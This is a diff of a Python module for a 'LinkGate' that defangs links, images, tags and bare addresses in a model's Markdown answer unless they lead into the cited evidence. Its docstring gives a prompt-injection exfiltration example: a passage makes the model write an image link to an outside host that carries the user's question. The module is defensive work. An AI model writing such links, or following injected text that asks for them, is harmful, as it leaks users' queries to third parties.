@@ -1,289 +1,318 @@
-"""The only place where a link or an image is taken out of an answer.
+"""The only place where a link or an image of an answer is let through or defanged.
 
-What a model writes is rendered as Markdown by whoever shows it, and an image is loaded without a click: a passage that
-makes the model write `![x](https://elsewhere/?what-was-asked)` would send away what was asked. So inline links and
-images, reference definitions, autolinks, bare URLs and HTML tags pass only when they lead to a URL of the evidence.
-Of a link the text stays; an image goes with its description.
+What a model writes is rendered by whoever shows it, and an image is loaded without a click: a passage that makes the
+model write `![x](https://elsewhere/?what-was-asked)` would send away what was asked. So only what is plainly a link
+into the evidence passes as it is. Everything else that CommonMark, a linkifier or a fence that is drawn would turn into
+a link, an image, a tag or a request leaves as text: brackets of Markdown behind a backslash, the `<` of a tag as
+`&lt;`, addresses as `defanged` writes them. Nothing is cut out, so nothing joins.
 """
 
 from __future__ import annotations
 
 import re
-from collections.abc import Iterator
 from dataclasses import dataclass, field
-from typing import ClassVar
 
-from groundgraph.chains.link_syntax import (
-    DEFINITION,
-    DEFINITION_SO_FAR,
-    LEADS,
-    MAX_LINK,
-    TARGET,
-    TARGET_SO_FAR,
-    destination,
-    leading_part,
-    may_be_definition,
-    may_be_image,
-)
-from groundgraph.chains.link_targets import URL_END, LinkTargets, url_end
-from groundgraph.chains.prose_gate import APART, MAX_HELD, ProseGate
+from groundgraph.chains.addresses import APART, defanged, is_address
+from groundgraph.chains.link_targets import LinkTargets, address_in
 
-_TEXT = re.compile(r"\[([^\[\]`\\<\n]{0,200})\]")
-_TEXT_SO_FAR = re.compile(r"\[[^\[\]`\\<\n]{0,200}")
-_IMAGE = re.compile(r"!\[([^\[\]`\\<]{0,200})\]")
-_IMAGE_SO_FAR = re.compile(r"!(?:\[[^\[\]`\\<]{0,200})?")
-_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\x00-\x20<>]*+)>")
-_SCHEME = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\x00-\x20<>]*)(?=[^\x00-\x20])")
-_OPEN_TAG = re.compile(r"<[^<>]*\Z")
-_TAG = re.compile(r"<(/?)([A-Za-z][A-Za-z0-9\-]*)((?:[\s/][^<>]*)?)>")
-_TAG_SO_FAR = re.compile(r"</?[A-Za-z][^<>]*+|</?")
-_TAG_BEGINS = re.compile(r"</?([A-Za-z][A-Za-z0-9\-]*)|<[!?]")
-# Tags that load, lead or swallow something even without attributes; any other passes when it has none.
-_ACTIVE = frozenset(
-    [
-        *("a", "applet", "area", "audio", "base", "body", "button", "embed", "form", "frame", "frameset", "iframe"),
-        *("image", "img", "input", "link", "math", "meta", "noembed", "noframes", "noscript", "object", "plaintext"),
-        *("pre", "script", "source", "style", "svg", "template", "textarea", "title", "track", "video", "xmp"),
-    ]
+# More than this is never held back: a longer address is none of the evidence, a longer line of code is none.
+_MAX_ADDRESS = 2000
+_MAX_CODE = 256
+_MAX_LINE = 200
+# A long text is taken in pieces of this size, so that the time it takes grows with its length and no faster.
+_PIECE = 2048
+_INLINE = r"[^\s()<>\\`\[\]\"']"
+_DEST = rf"(?:{_INLINE}|\({_INLINE}*+\))++"
+_DEST_SO_FAR = rf"<?[^\s<>\\`\[\]\"']{{0,{_MAX_ADDRESS}}}>?"
+_LINK_SO_FAR = re.compile(rf"\]\({_DEST_SO_FAR}\Z")
+_LINK = re.compile(rf"\]\((?:<({_DEST})(?=>[\s)])|({_DEST})(?=[\s)]))")
+_WORD = re.compile(r"\]\((?:[\w\-]++(?=[\s)])|\))")
+_IMAGE = re.compile(rf"!\[([^\[\]`\\<!\r\n]{{0,200}})\]\((?:<({_DEST})(?=>[\s)])|({_DEST})(?=[\s)]))")
+_IMAGE_SO_FAR = re.compile(rf"!\[[^\[\]`\\<!\r\n]{{0,200}}(?:\](?:\({_DEST_SO_FAR})?)?\Z")
+_NO_IMAGE = re.compile(r"!\[[^\[\]`\\<!\r\n]{0,200}\](?!\()")
+_GAP = r"[^\S\r\n]{0,99}(?:\r\n?|\n)?[^\S\r\n]{0,99}"
+_DEFINITION = re.compile(
+    rf"\]:{_GAP}(?:<({_DEST})>|([^ \t\r\n]{{1,{_MAX_ADDRESS}}}))(?=[^\S\r\n]{{0,99}}(?:[\r\n\"'(]|\Z))"
 )
-_URL = re.compile(rf"(?:https?://|ftps?://|www\.)[^{URL_END}]*+", re.IGNORECASE)
-_URL_SO_FAR = re.compile(
-    r"(?:h(?:t(?:t(?:ps?(?::/{0,2})?)?)?)?|f(?:t(?:ps?(?::/{0,2})?)?)?|w{1,3}\.?)\Z", re.IGNORECASE
+_DEFINITION_SO_FAR = re.compile(rf"\]:{_GAP}[^ \t\r\n]{{0,{_MAX_ADDRESS}}}[^\S\r\n]{{0,99}}\Z")
+# Tags that load nothing and lead nowhere, without attributes.
+_TAG = re.compile(
+    r"</?(?:b|i|u|s|em|strong|sub|sup|small|mark|del|ins|q|cite|abbr|kbd|samp|var|code|br|wbr|hr|p|div|span|blockquote|"
+    r"[uod]l|li|d[td]|table|caption|t(?:head|body|foot|r|h|d)|h[1-6]|details|summary) ?/?>",
+    re.IGNORECASE,
 )
-_BEHIND_URL = re.compile(f"[{URL_END}]")
-_FENCE = re.compile(r"`{3,}[^`\r\n]*+[\r\n]")
-# What a line may begin with before a fence.
-_MARKERS = r"(?:\A|[\r\n])[ \t>*+\-\d.)]*"
-_TILDES = re.compile(rf"{_MARKERS}~~~")
-_ONLY_MARKERS = re.compile(rf"{_MARKERS}\Z")
+_AUTOLINK = re.compile(rf"<({_DEST})>")
+_TAG_SO_FAR = re.compile(rf"<[^\s<>]{{0,{_MAX_ADDRESS}}}(?: ?/?)\Z")
+_CODE = (re.compile(r"`([^`\r\n|]{1,256})`(?!`)"), re.compile(r"``((?:[^`\r\n|]|(?<!`)`(?!`)){1,256})``(?!`)"))
+# What this gate writes for the bracket of a tag divides as that did.
+_BRACKET = "&lt;"
+_RUN = re.compile(f"(?:[^{APART}!~&]|!(?!\\[)|~(?!~~)|&(?!lt;))+")
+_TICKS = re.compile(r"`+")
+_LINE = re.compile(r"([ \t>*+\-\d.)]{0,60})(`+|~{3,}|~{0,2}\Z)?")
 _LINE_END = re.compile(r"[\r\n]")
-_BLANK_LINE = re.compile(r"\n[ \t]*\n")
+_LANGUAGE = re.compile(r"[ \t]*+([\w+#.\-]*+)[ \t]*+\Z")
+# What else stands behind an address, up to white space, without going on with it; or a bracket, which ends it.
+_ENDS = re.compile(r"(?:[\"'”»」】）》)\]}>*_~.,;:!?…|。，]{0,16}(?=\s|\Z)|(?=[\]})>]))")
+# Languages that pages draw instead of showing them.
+_DRAWN = re.compile(r"mermaid|svg|x?html?|xml|mathml|(?:la)?tex|math|katex|dot|graphviz|plantuml|vega", re.IGNORECASE)
 
 
 @dataclass
-class LinkGate(ProseGate):
-    """Passes text through without links and images that lead elsewhere.
+class LinkGate:
+    """Reads a text in pieces of any size and gives it without anything that leads away from `targets`.
+
+    Whatever the pieces, the text that leaves is the same, and every beginning of it is as safe as the whole.
 
     Attributes:
-        targets: where they may lead.
-        removed: where those led that were taken out, at most 200 characters each.
+        targets: where links and images may lead.
+        removed: where those led that do not any more, defanged, at most 200 characters each.
     """
-
-    special: ClassVar[re.Pattern[str]] = re.compile(
-        r"[<`\\\[]|!(?=\[|\Z)|(?:\A|(?<=\]))[(:]|(?:https?|ftps?)://|www\.|"
-        r"(?:h(?:t(?:t(?:ps?(?::/?)?)?)?)?|f(?:t(?:ps?(?::/?)?)?)?|w{1,3})\Z",
-        re.IGNORECASE,
-    )
 
     targets: LinkTargets
     removed: list[str] = field(default_factory=list)
-    _in_url: bool = field(default=False, init=False)
-    # Set until the next blank line: what looks like code there may be none to whoever renders it.
+    _held: str = field(default="", init=False)
+    # The last character that has left, and whether a backslash escapes the next one.
+    _last: str = field(default="", init=False)
+    _escapes: bool = field(default=False, init=False)
+    _line_begins: bool = field(default=True, init=False)
+    _blank: bool = field(default=True, init=False)
+    # The run that opened the fence around what comes; and whether a page may draw what is in it.
+    _fence: str = field(default="", init=False)
+    _drawn: bool = field(default=False, init=False)
+    # Set until the next blank line: what looks like code there may be none to whoever renders it. The last is set for
+    # good at the first fence that need not be one.
     _in_html: bool = field(default=False, init=False)
     _unpaired: bool = field(default=False, init=False)
-    # Set from the first fence on that may be none, or one of tildes, which may hold backticks that fence nothing: what
-    # opens and what closes is not known from there on, so nothing is taken for code.
     _unsure: bool = field(default=False, init=False)
+    # Set within a run that is too long for an address of the evidence.
+    _long: bool = field(default=False, init=False)
+
+    def feed(self, text: str) -> str:
+        """What can be let through after `text` arrived; the rest waits for the next piece."""
+        passed = []
+        for start in range(0, len(text), _PIECE):
+            self._held += text[start : start + _PIECE]
+            passed.append(self._passed(final=False))
+        return "".join(passed)
+
+    def flush(self) -> str:
+        """What still waits, when the text has ended."""
+        return self._passed(final=True)
+
+    def _passed(self, *, final: bool) -> str:
+        passed, text, at = [], self._held, 0
+        while at < len(text):
+            decided = self._next(text, at, final)
+            if decided is None:
+                break
+            piece, at = decided
+            self._leaves(piece)
+            passed.append(piece)
+        self._held = text[at:]
+        return "".join(passed)
 
     def _leaves(self, piece: str) -> None:
-        if "~" in piece and _TILDES.search(self._tail + piece):
-            self._unsure = True
-        if "\n" in piece and (self._in_html or self._unpaired):
-            line = self._tail[self._tail.rfind("\n") :] if "\n" in self._tail else ""
-            if _BLANK_LINE.search((line if not line.strip() else "") + piece):
+        if piece:
+            slashes = len(piece) - len(piece.rstrip("\\"))
+            self._escapes = (slashes + (self._escapes and slashes == len(piece))) % 2 == 1
+            self._last = piece[-1]
+            self._blank = self._blank and not piece.strip(" \t")
+
+    def _next(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
+        """What leaves next of `text` from `at` on, and where that ends; nothing while more input could change it."""
+        char = text[at]
+        if self._line_begins:
+            return self._line(text, at, final)
+        if char in "\r\n":
+            if self._blank:
                 self._in_html = self._unpaired = False
-        super()._leaves(piece)
+            self._line_begins = self._blank = True
+            self._long = False
+            return char, at + 1
+        run = _RUN.match(text, at)
+        if run:
+            return self._run(text, at, run.end(), final)
+        self._long = False
+        if text.startswith(_BRACKET, at):
+            return _BRACKET, at + len(_BRACKET)
+        if self._fence and not self._drawn:
+            return char, at + 1
+        if char in "`<!]":
+            handler = {"`": self._ticks, "<": self._angle, "!": self._image, "]": self._bracket}[char]
+            return handler(text, at, final)
+        return char, at + 1
 
-    def _is_swallowing(self) -> bool:
-        return self._in_url
-
-    def _swallow(self, *, final: bool) -> bool:  # noqa: ARG002 - what is swallowed is dropped at the end too
-        end = _BEHIND_URL.search(self._held)
-        self._held = self._held[end.start() :] if end else ""
-        self._in_url = not end
-        return not self._in_url
-
-    def _at_line_start(self) -> bool:
-        return not self._tail or self._tail[-1] in "\r\n"
-
-    def _code(self, *, final: bool) -> Iterator[str]:
-        """The next lines of a fenced block, to the one that closes it, as CommonMark has it."""
-        while self._held and self._in_code:
-            line = _LINE_END.search(self._held)
-            end = line.end() if line else 0
-            if self._at_line_start():
-                closes = re.compile(rf" {{0,3}}`{{{len(self._in_code)},}}[ \t]*(?:[\r\n]|\Z)")
-                if not end and not final and re.fullmatch(r" {0,3}`*[ \t]*", self._held):
-                    return
-                if closes.match(self._held):
-                    self._in_code = ""
-            yield self._take(end or len(self._held))
-
-    def _backtick(self, special: str, *, final: bool) -> tuple[str, bool]:
-        run = len(special) - len(special.lstrip("`"))
-        undecided = not final and len(special) <= MAX_HELD
-        if run == len(special) and undecided:
-            return "", True
-        if self._unsure:
-            return self._take_with_space(special, run), False
-        if run >= 3 and special is self._held and self._at_line_start() and not self._in_html:
-            opening = _FENCE.match(special)
-            if opening:
-                self._in_code = "`" * run
-                return self._take(opening.end()), False
-            if undecided and not _LINE_END.search(special) and "`" not in special[run:]:
-                return "", True
-        if run >= 3 and _ONLY_MARKERS.search(self._tail + self._held[: len(self._held) - len(special)]):
+    def _line(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
+        """The beginning of a line, as far as a fence opens or closes with it."""
+        found = _LINE.match(text, at)
+        assert found is not None
+        markers, run = found[1], found[2] or ""
+        if found.end() == len(text) and not final and len(found.group()) < _MAX_LINE:
+            return None
+        end = _LINE_END.search(text, found.end(), found.end() + _MAX_LINE)
+        if len(run) >= 3 and end is None and not final and len(text) - found.end() < _MAX_LINE:
+            return None
+        self._line_begins = False
+        if len(run) < 3:
+            return "", at
+        info = text[found.end() : end.start() if end else found.end() + _MAX_LINE]
+        if self._fence:
+            closes = run[0] == self._fence[0] and len(run) >= len(self._fence) and not info.strip(" \t")
+            if closes and len(markers) < 4 and not markers.strip(" "):
+                self._fence = ""
+                self._unpaired = False
+                return text[at : found.end()], found.end()
+            return "", at
+        if markers or self._unsure or self._in_html or "`" in info or (end is None and not final):
             self._unsure = True
-        return self._inline_code(special, run, undecided=undecided)
+            return "", at
+        language = _LANGUAGE.match(info)
+        plain = language is not None and not (_DRAWN.fullmatch(language[1]) or is_address(language[1]))
+        self._fence, self._drawn = run, not plain
+        return run, found.end()
 
-    def _inline_code(self, special: str, run: int, *, undecided: bool) -> tuple[str, bool]:
-        line = _LINE_END.split(special[: MAX_HELD + 1], maxsplit=1)[0]
-        closing = re.compile(rf"(?<!`)`{{{run}}}(?!`)").search(line, run)
-        if closing and not (self._unpaired or self._unsure):
-            if closing.end() == len(special) and undecided:
-                return "", True
-            return self._take_with_space(special, closing.end()), False
-        if undecided and not self._unpaired and len(line) == len(special):
-            return "", True
+    def _run(self, text: str, at: int, end: int, final: bool) -> tuple[str, int] | None:
+        """What holds neither white space nor brackets: a word, or an address."""
+        if end - at > _MAX_ADDRESS:
+            self._long = True
+        if self._long:
+            return self._too_long(text, at, end, final)
+        if end == len(text) and not final:
+            return None
+        run, code = text[at:end], bool(self._fence) and not self._drawn
+        piece, allowed, gone = self._address(run, self._last, text[end : end + 1], code=code)
+        if allowed and not self._fence and ("/" in allowed or "?" in allowed):
+            behind = _ENDS.match(text, end, end + 40)
+            if not final and len(text) < end + 20 and not any(char.isspace() for char in text[end:]):
+                return None
+            if behind is None or (behind.end() == end + 40):
+                piece += " "
+        self._note(gone)
+        return piece, end
+
+    def _too_long(self, text: str, at: int, end: int, final: bool) -> tuple[str, int] | None:
+        if end - at < _MAX_ADDRESS and end == len(text) and not final:
+            return None
+        window = text[at : min(end, at + _MAX_ADDRESS)]
+        apart = " " if any(char in window for char in ".:/@&\\") and len(window) == _MAX_ADDRESS else ""
+        piece = defanged(window)
+        if piece != window:
+            self.removed.append(piece[:200])
+        return piece + apart, at + len(window)
+
+    def _address(self, run: str, before: str, after: str = "", *, code: bool) -> tuple[str, str, str]:
+        """`run` as it may leave; the address in it if that is one of the evidence; and what does not pass of it."""
+        # To a linkifier these are letters of the host behind them.
+        joined = before in ("`", "^", "|") and not code
+        if not (is_address(run, before, after, code=code) or (joined and is_address(f"x{run}"))):
+            return run, "", ""
+        start, end = address_in(run)
+        address = run[start:end]
+        joined = joined or is_address(run[:start], before, code=code)
+        allowed = "" if joined else self.targets.allowed_part(address)
+        if allowed:
+            return run[:start] + allowed + run[end:], allowed, address if allowed != address else ""
+        piece = defanged(run)
+        return piece, "", run.strip("()*_'~,;.!?") if piece != run else ""
+
+    def _ticks(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
+        found = _TICKS.match(text, at)
+        assert found is not None
+        count = len(found.group())
+        if found.end() == len(text) and not final:
+            return None
+        trusted = not (self._escapes or self._unsure or self._in_html or self._unpaired or self._fence)
+        if trusted and count <= len(_CODE):
+            code = _CODE[count - 1].match(text, at)
+            end = code.end() if code else at + _MAX_CODE
+            if not final and len(text) <= end and not _LINE_END.search(text, at):
+                return None
+            if code:
+                ticks, inside = found.group(), code[1]
+                return ticks + _RUN.sub(self._in_code, inside) + ticks, code.end()
         self._unpaired = True
-        return self._take_with_space(special, run), False
+        return found.group(), found.end()
 
-    def _passes(self, whole: str, target: str) -> bool:
-        return "`" not in whole and (not LEADS.search(target) or self.targets.allows(target))
+    def _in_code(self, run: re.Match[str]) -> str:
+        before = run.string[run.start() - 1] if run.start() else ""
+        piece, _, gone = self._address(run.group(), before, code=True)
+        self._note(gone)
+        return piece
 
-    def _decide(self, special: str, *, final: bool) -> tuple[str, bool]:
-        handler = {"[": self._bracket, "!": self._image, "<": self._angle}.get(special[0])
-        if handler is not None:
-            return handler(special, final=final)
-        if special[0] not in "(:":
-            return self._url(special, final=final)
-        if len(special) < len(self._held) or not self._tail.endswith("]"):
-            return self._take_with_space(special, 1), False
-        return self._target(special, final=final) if special[0] == "(" else self._definition(special, final=final)
-
-    def _bracket(self, special: str, *, final: bool) -> tuple[str, bool]:
-        text = _TEXT.match(special)
-        if text is None:
-            waits = not final and _TEXT_SO_FAR.fullmatch(special) is not None
-            return ("", True) if waits else (self._take_with_space(special, 1), False)
-        rest = special[text.end() :]
-        if not rest and not final:
-            return "", True
-        found = TARGET.match(rest)
-        if found is None or found.end() > MAX_LINK:
-            waits = not final and rest.startswith("(") and self._may_go_on(rest, TARGET_SO_FAR)
-            return ("", True) if waits else (self._take_with_space(special, 1), False)
-        target = destination(found)
-        if self._passes(found.group(), target):
-            return self._take_with_space(special, text.end() + found.end()), False
-        shown = text.group(1)
-        piece = self._drop(special, text.end() + found.end(), target)
-        if shown.strip().isdigit():
-            return f"{piece}[{shown}]", False
-        self._held = shown + self._held
-        return piece, False
-
-    def _image(self, special: str, *, final: bool) -> tuple[str, bool]:
-        text = _IMAGE.match(special)
-        if text is None:
-            waits = not final and _IMAGE_SO_FAR.fullmatch(special) is not None
-            return ("", True) if waits else (self._take_with_space(special, 1), False)
-        rest = special[text.end() :]
-        found = TARGET.match(rest)
-        if found is None or found.end() > MAX_LINK:
-            waits = not final and (not rest or (rest[0] == "(" and self._may_go_on(rest, TARGET_SO_FAR)))
-            return ("", True) if waits else (self._take_with_space(special, 1), False)
-        target, length = destination(found), text.end() + found.end()
-        if "`" not in found.group() and self.targets.allows_image(target):
-            return self._take_with_space(special, length), False
-        return self._drop(special, length, target, with_space=True), False
-
-    def _target(self, special: str, *, final: bool) -> tuple[str, bool]:
-        """A destination whose link text has passed already, or that is not what CommonMark takes for one."""
-        image = may_be_image(self._tail)
-        found = TARGET.match(special)
-        if found is None or found.end() > MAX_LINK:
-            return ("", True) if not final and self._may_go_on(special, TARGET_SO_FAR) else self._lame(special, image)
-        target = destination(found)
-        if self._passes(found.group(), target) and (not image or self._shows(target)):
-            return self._take(found.end()), False
-        return self._drop(special, found.end(), target), False
-
-    def _definition(self, special: str, *, final: bool) -> tuple[str, bool]:
-        """What a reference leads to; an image may refer to it too."""
-        if not may_be_definition(self._tail):
-            return self._take(1), False
-        found = DEFINITION.match(special)
-        if found is None or found.end() > MAX_LINK or (found.end() == len(special) and not final):
-            waits = not final and self._may_go_on(special, DEFINITION_SO_FAR)
-            return ("", True) if waits else self._lame(special, image=True)
-        target = destination(found)
-        if "`" not in found.group() and self._shows(target):
-            return self._take(found.end()), False
-        return self._drop(special, found.end(), target), False
-
-    def _shows(self, target: str) -> bool:
-        return not LEADS.search(target) or self.targets.allows_image(target)
-
-    def _lame(self, special: str, image: bool) -> tuple[str, bool]:
-        """What is no destination here, or too long to tell, may still be one to whoever renders it."""
-        part, target = leading_part(special)
-        allowed = self.targets.allows_image(target) if image else self.targets.allows(target)
-        if not part or (target and allowed):
-            return self._take(1), False
-        self._in_url = len(part) > MAX_LINK
-        return self._drop(special, len(part), target or part), False
-
-    def _angle(self, special: str, *, final: bool) -> tuple[str, bool]:
-        link = _AUTOLINK.match(special)
-        if link:
-            if self.targets.allows(link.group(1)):
-                return self._take_with_space(special, link.end()), False
-            return self._drop(special, link.end(), link.group(1), with_space=True), False
-        tag = _TAG.match(special)
+    def _angle(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
+        tag = _TAG.match(text, at)
         if tag:
-            closing, name, attributes = tag.groups()
-            if name.lower() not in _ACTIVE and not attributes.strip(" /"):
-                self._in_html = True
-                return self._take_with_space(special, tag.end()), False
-            removed = "" if closing else tag.group()
-            return self._drop(special, tag.end(), removed, with_space=name.lower() == "img"), False
-        if not final and self._may_go_on(special, _TAG_SO_FAR):
-            return "", True
-        # An autolink or a tag that does not close must not find its end in what is written below it.
-        scheme, begins = _SCHEME.match(special), _TAG_BEGINS.match(special)
-        if scheme or (begins and (begins.group(1) or "a").lower() in _ACTIVE):
-            return self._drop(special, 1, scheme.group(1) if scheme else ""), False
-        return self._take_with_space(special, 1), False
+            self._in_html = True
+            return tag.group(), tag.end()
+        link = _AUTOLINK.match(text, at)
+        if link:
+            allowed = self.targets.allowed_part(link[1]) if ":" in link[1] or "@" in link[1] else ""
+            if allowed:
+                self._note(link[1] if allowed != link[1] else "")
+                return f"<{allowed}>", link.end()
+        elif not final and _TAG_SO_FAR.match(text, at):
+            return None
+        follows = text[at + 1 : at + 2]
+        return (_BRACKET if (follows.isascii() and follows.isalpha()) or follows in ("/", "!", "?") else "<"), at + 1
 
-    def _url(self, special: str, *, final: bool) -> tuple[str, bool]:
-        found = _URL.match(special)
-        if found is None:
-            waits = not final and _URL_SO_FAR.fullmatch(special) is not None
-            return ("", True) if waits else (self._take_with_space(special, 1), False)
-        if found.end() == len(special) and not final and len(special) <= MAX_LINK:
-            return "", True
-        end = url_end(found.group())
-        if len(found.group()) > MAX_LINK:
-            self._in_url = True
-            end = found.end()
-        elif self.targets.allows(found.group()[:end]):
-            return self._take_with_space(special, end), False
-        return self._drop(special, end, found.group()[:end], with_space=True), False
+    def _image(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
+        """`![`; `!` elsewhere is part of a run."""
+        if self._escapes:
+            return "!", at + 1
+        found = _IMAGE.match(text, at)
+        if found:
+            target = found[2] or found[3]
+            allowed = self.targets.allowed_part(target, image=True)
+            if allowed and not self._leads(found[1]):
+                self._note(target if allowed != target else "")
+                return f"![{found[1]}]({'<' if found[2] else ''}{allowed}", found.end()
+        elif not final and _IMAGE_SO_FAR.match(text, at):
+            return None
+        elif (text_only := _NO_IMAGE.match(text, at)) and not self._leads(text_only.group()):
+            return "!", at + 1
+        if found and self.targets.allowed_part(found[2] or found[3]):
+            self._note(found[2] or found[3])
+        return "\\!", at + 1
 
-    def _may_go_on(self, special: str, so_far: re.Pattern[str]) -> bool:
-        return len(special) <= MAX_LINK and so_far.fullmatch(special) is not None
+    def _leads(self, text: str) -> bool:
+        return any(is_address(run, "[") for run in re.split(f"[{APART}]+", text))
 
-    def _drop(self, special: str, length: int, target: str, *, with_space: bool = False) -> str:
-        """Take out `length` characters; what passes in their place keeps both sides apart."""
-        space = self._take_with_space(special, 0)
-        self._held = self._held[length:]
+    def _bracket(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
+        follows = text[at + 1 : at + 2]
+        if follows == "(":
+            return self._inline_link(text, at, final)
+        if follows == ":":
+            return self._definition(text, at, final)
+        return None if not follows and not final else ("]", at + 1)
+
+    def _inline_link(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
+        found = _LINK.match(text, at)
+        if found:
+            target = found[1] or found[2]
+            allowed = self.targets.allowed_part(target)
+            if allowed:
+                self._note(target if allowed != target else "")
+                return f"]({'<' if found[1] else ''}{allowed}", found.end()
+        if _WORD.match(text, at):
+            return "](", at + 2
+        if not found and not final and _LINK_SO_FAR.match(text, at):
+            return None
+        if found and not is_address(found[1] or found[2]):
+            self._note(found[1] or found[2])
+        return "]\\(", at + 2
+
+    def _definition(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
+        """What a reference leads to, and an image may refer to it too."""
+        if not final and _DEFINITION_SO_FAR.match(text, at):
+            return None
+        found = _DEFINITION.match(text, at)
+        if not found:
+            return "]:", at + 2
+        target = found[1] or found[2]
+        if re.fullmatch(_DEST, target) and self.targets.allowed_part(target, image=True) == target:
+            return found.group(), found.end()
+        return "]\\:", at + 2
+
+    def _note(self, target: str) -> None:
         if target:
-            self.removed.append(target[:200])
-        if space:
-            return "" if with_space and not _OPEN_TAG.search(self._tail) else space
-        if not self._tail or self._tail[-1].isspace():
-            return ""
-        # Behind a parenthesis what follows might become a destination; one holds no space.
-        return f"{APART} " if self._tail[-1] == "(" else APART
+            self.removed.append(defanged(target)[:200])
